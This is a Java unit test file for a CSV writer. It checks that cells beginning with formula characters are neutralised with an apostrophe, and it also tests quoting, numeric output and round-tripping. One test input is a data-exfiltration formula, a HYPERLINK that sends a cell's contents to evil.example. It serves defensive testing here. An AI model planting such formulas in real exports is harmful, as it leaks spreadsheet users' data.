package org.twinport.shared;

import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CsvWriterTest {

	@Test
	void textThatStartsLikeAFormulaGetsAnApostrophe() {
		for (String formula : List.of("=1+1", "+1", "-1", "@SUM(1)", "\tcmd", "\rcmd")) {
			assertThat(CsvWriter.cell(formula)).as(formula).isIn("'" + formula, "\"'" + formula + "\"");
		}
		assertThat(CsvWriter.line(List.of("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open agreement\")")))
			.isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Open agreement\"\")\"\r\n");
		assertThat(CsvWriter.cell("tea")).isEqualTo("tea");
		assertThat(CsvWriter.cell("a=b")).isEqualTo("a=b");
	}

	@Test
	void numbersTheServerWritesStayNumbers() {
		assertThat(CsvWriter.line(Arrays.asList(new BigDecimal("-12.5"), -3, 7L, new BigDecimal("1E+3"), null)))
			.isEqualTo("-12.5,-3,7,1000,\r\n");
		assertThat(CsvWriter.cell("-12.5")).as("the same digits as text are neutralised").isEqualTo("'-12.5");
		assertThat(CsvWriter.cell(Double.NEGATIVE_INFINITY)).isEqualTo("'-Infinity");
	}

	@Test
	void quotesCellsThatHoldSeparatorsQuotesOrLineBreaks() {
		assertThat(new CsvWriter().row("a,b", "say \"hi\"", "two\nlines", "trade;=1", "x\ty", "plain").toString())
			.isEqualTo("\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"trade;=1\",\"x\ty\",plain\r\n");
	}

	@Test
	void theOriginalTextComesBackEvenWhenItStartedWithApostrophes() {
		for (String text : List.of("=1", "'=1", "''-2", "'quoted'", "'", "", "plain", "@x", "\tx")) {
			String written = CsvWriter.cell(text);
			String unquoted = written.startsWith("\"") ? written.substring(1, written.length() - 1) : written;
			assertThat(CsvWriter.original(unquoted)).as(text).isEqualTo(text);
		}
	}

}
